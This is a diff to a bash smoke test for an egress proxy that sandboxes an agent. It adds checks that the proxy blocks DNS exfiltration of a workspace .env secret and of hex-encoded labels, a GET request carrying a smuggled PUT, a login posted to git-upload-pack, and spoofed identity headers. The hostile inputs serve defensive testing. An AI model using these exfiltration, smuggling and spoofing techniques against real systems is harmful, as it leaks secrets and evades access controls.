@@ -5,6 +5,11 @@
 # the proxy made, is a DNS query for an allowed name, or is ARP/ND housekeeping.
 # The credential item: the agent holds a placeholder; the proxy intercepts api.test (a
 # credential host), injects the real key, and scrubs the echo of it from the response.
+# Names are content: the workspace's .env value and a 40-hex label under the *.zone.test
+# wildcard, asked of the agent's resolver and of the proxy, never reach the upstream DNS
+# server (an ordinary name under the same wildcard does). A read-only host takes no body
+# (a GET carrying a smuggled request, a login posted to …/git-upload-pack), and the
+# identity headers an agent sets (x-sandbox-id, x-forwarded-for, ...) never reach api.test.
 # Usage: sudo tests/smoke/egress.sh          (root: tcpdump, the audit volume on the host)
 source "$(dirname "$0")/lib.sh"
 smoke_sweep
@@ -32,7 +37,8 @@ json.dump({
     "https": [{"ip": "::", "port": 443, "names": ["allowed.test", "blocked.test", "api.test"]}],
     "dns": [{"ip": "::", "port": 53}],
     "udp": [{"ip": "::", "port": 443}],
-    "zone": {"allowed.test": ["$UP4", "$UP6"], "blocked.test": ["$UP4"], "api.test": ["$UP4"]},
+    "zone": {"allowed.test": ["$UP4", "$UP6"], "blocked.test": ["$UP4"], "api.test": ["$UP4"],
+             "*.zone.test": ["$UP4"]},
 }, open(f"{d}/fakenet.json", "w"))
 PY
 cat >"$SMOKE_DIR/policy.toml" <<'TOML'
@@ -40,7 +46,7 @@ cat >"$SMOKE_DIR/policy.toml" <<'TOML'
 name = "smoke"
 
 [network]
-allow = ["allowed.test", "api.test"]
+allow = ["allowed.test", "api.test", "*.zone.test"]
 deny = []
 # allowed.test is relayed untouched (tunnel and transparent TLS with the fake CA);
 # api.test is intercepted, as every other host is, and read-only (not in writable).
@@ -57,6 +63,11 @@ SECRET=sk-smoke-REALSECRET-$RANDOM$RANDOM
 chmod 0644 "$SMOKE_DIR/policy.toml"
 mkdir -p "$SMOKE_DIR/log" "$SMOKE_DIR/repo"
 chown 1000:1000 "$SMOKE_DIR/repo"
+# A workspace secret of no known format, short enough to pass for an ordinary label.
+API_SECRET=Zq7vK2pL9xW4mN8r$RANDOM
+printf 'API_SECRET=%s\n' "$API_SECRET" >"$SMOKE_DIR/repo/.env"
+chown 1000:1000 "$SMOKE_DIR/repo/.env"
+HEX=68656c6c6f20776f726c6420746869732069732e
 
 say "network $NET (internal, 203.0.113.0/24 and 2001:db8:113::/64), upstream $UP"
 smoke_fakenet_up "$fakenet" "$NET" 203.0.113.0/24 203.0.113.1 "$UP" "$UP4" 2001:db8:113::/64 "$UP6"
@@ -79,6 +90,19 @@ echo "cred_system_path=$(env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS --max-t
 # The same placeholder in plain HTTP to another host (where the proxy can see it): refused.
 echo "cred_leak=$($C -o /dev/null -w '%{http_code}' -H "x-api-key: $SMOKE_API_KEY" http://allowed.test/leak)"
 echo "http=$($C -o /dev/null -w '%{http_code}' http://allowed.test/)"
+# Names are content: the .env value and an encoded label, through the resolver and the proxy.
+. /workspace/.env
+getent hosts "$API_SECRET.zone.test" >/dev/null; echo "dns_secret=$?"
+getent hosts "68656c6c6f20776f726c.6420746869732069732e.zone.test" >/dev/null; echo "dns_hex=$?"
+getent hosts cdn-eu-1.zone.test >/dev/null; echo "dns_ordinary=$?"
+echo "name_hex=$($C -o /dev/null -w '%{http_code}:%header{x-airlock-error}' http://68656c6c6f20776f726c6420746869732069732e.zone.test/)"
+echo "name_secret=$($C -o /dev/null -w '%{http_code}:%header{x-airlock-error}' "http://$API_SECRET.zone.test/")"
+echo "name_ordinary=$($C -o /dev/null -w '%{http_code}' http://cdn-eu-2.zone.test/)"
+# A read-only host takes no body: a GET smuggling a PUT, a login to …/git-upload-pack.
+echo "get_body=$(curl -sS --max-time 10 -o /dev/null -w '%{http_code}:%header{x-airlock-error}' -X GET --data-binary $'PUT /smuggled HTTP/1.1\r\nhost: api.test\r\ncontent-length: 2\r\n\r\nhi' https://api.test/search)"
+echo "fake_fetch=$(curl -sS --max-time 10 -o /dev/null -w '%{http_code}:%header{x-airlock-error}' -H 'content-type: application/json' --data '{"user":"agent","password":"x"}' https://api.test/o/r.git/git-upload-pack)"
+# Identity headers only a proxy may set.
+echo "claims=$(curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'x-sandbox-id: other-sandbox' -H 'x-forwarded-for: 10.0.0.1' -H 'x-internal: 1' -H 'x-smokescreen-role: admin' -H 'x-amzn-oidc-identity: root' https://api.test/claims)"
 echo "transparent=$($C --noproxy '*' -o /dev/null -w '%{http_code}' https://allowed.test/)"
 echo "blocked=$($C -o /dev/null -w '%{http_code}' http://blocked.test/)"
 $C -f --noproxy '*' --connect-timeout 5 -o /dev/null https://blocked.test/ 2>/dev/null; echo "blocked_transparent=$?"
@@ -142,6 +166,15 @@ check "the echoed secret is scrubbed from the response" [ "$(get cred_echo_scrub
 check "Debian's system CA path trusts the appliance CA too: 200" [ "$(get cred_system_path)" = 200 ]
 check "the placeholder sent to another host is refused: 403" [ "$(get cred_leak)" = 403 ]
 check "a PUT to a read-only host is refused: $(get publish)" [ "$(get publish)" = "403:read-only-host" ]
+check "a GET with a body to a read-only host is refused: $(get get_body)" [ "$(get get_body)" = "403:body-on-read" ]
+check "a login posted to …/git-upload-pack of a read-only host is refused: $(get fake_fetch)" [ "$(get fake_fetch)" = "403:read-only-host" ]
+check "identity headers the agent sets: the request itself passes ($(get claims))" [ "$(get claims)" = 200 ]
+check "the .env value in a name does not resolve (getent $(get dns_secret))" [ "$(get dns_secret)" = 2 ]
+check "an encoded name split over labels does not resolve (getent $(get dns_hex))" [ "$(get dns_hex)" = 2 ]
+check "an ordinary name under the wildcard resolves (getent $(get dns_ordinary))" [ "$(get dns_ordinary)" = 0 ]
+check "a 40-hex name through the proxy is refused: $(get name_hex)" [ "$(get name_hex)" = "403:dns-exfil-suspect" ]
+check "the .env value in a name through the proxy is refused: $(get name_secret)" [ "$(get name_secret)" = "403:foreign-secret" ]
+check "an ordinary name under the wildcard through the proxy: 200" [ "$(get name_ordinary)" = 200 ]
 check "the agent's output never holds the real secret" bash -c "! grep -q '$SECRET' '$SMOKE_DIR/agent.out'"
 nonzero() { local v; v=$(get "$1"); [ -n "$v" ] && [ "$v" != 0 ] && [ "$v" != 127 ]; }
 for item in blocked_transparent direct meta v6 resolve_blocked ping ping6 iptables_flush \
@@ -176,8 +209,19 @@ check "nothing reached upstream for the leak attempt" bash -c "! grep -q '/leak'
 check "nothing reached upstream for the publish attempt" bash -c "! grep -q '/publish' '$ulog'"
 check "upstream saw no UDP datagram" bash -c "! grep -q '\"kind\":\"udp\"' '$ulog'"
 check "upstream saw nothing about blocked.test" bash -c "! grep -q 'blocked' '$ulog'"
+check "upstream never saw the smuggled request or the login" bash -c "! grep -q -e smuggled -e git-upload-pack '$ulog'"
+check "upstream saw the request with identity headers" grep -q '/claims' "$ulog"
+check "none of the identity headers reached upstream" bash -c "! grep -q -i -e x-sandbox-id -e x-forwarded-for -e x-internal -e smokescreen -e x-amzn-oidc '$ulog'"
+check "the upstream DNS server was asked the ordinary names" bash -c "grep -q 'cdn-eu-1.zone.test' '$ulog' && grep -q 'cdn-eu-2.zone.test' '$ulog'"
+check "the upstream DNS server never saw the .env value or the hex (in any case)" bash -c "! grep -q -i -e '$API_SECRET' -e 68656c6c6f '$ulog'"
 audit="$(volume_path "$AUDIT")/audit.jsonl"
 check "audit log has the denials with reasons" grep -q '"reason":"blocked-by-policy"' "$audit"
+check "the names with the .env value are refused foreign-secret, the detector named" python3 -c '
+import json, sys
+lines = [json.loads(l) for l in open(sys.argv[1])]
+hits = [l for l in lines if l.get("reason") == "foreign-secret" and l.get("rule") == "secret detector workspace:.env"]
+sys.exit(0 if {l["kind"] for l in hits} >= {"dns", "http"} else 1)' "$audit"
+check "the audit log never holds the .env value" bash -c "! grep -q -i '$API_SECRET' '$audit'"
 check "every audit line names the sandbox and this container" python3 -c '
 import json, re, sys
 lines = [json.loads(l) for l in open(sys.argv[1])]
@@ -188,7 +232,7 @@ check "audit log is the proxy's (uid $proxy_uid), 0600" [ "$(stat -c '%u %a' "$a
 
 say "wire (tcpdump on $BR)"
 tcpdump -nn -r "$SMOKE_DIR/wire.pcap" 2>/dev/null >"$SMOKE_DIR/wire.txt"
-if python3 "$SMOKE_ROOT/tests/smoke/wire_check.py" "$audit" allowed.test,api.test "$APP4" "$APP6" \
+if python3 "$SMOKE_ROOT/tests/smoke/wire_check.py" "$audit" allowed.test,api.test,cdn-eu-1.zone.test,cdn-eu-2.zone.test "$APP4" "$APP6" \
     <"$SMOKE_DIR/wire.txt"; then
     pass "every packet from the appliance is the proxy's, an allowed DNS query or housekeeping"
 else
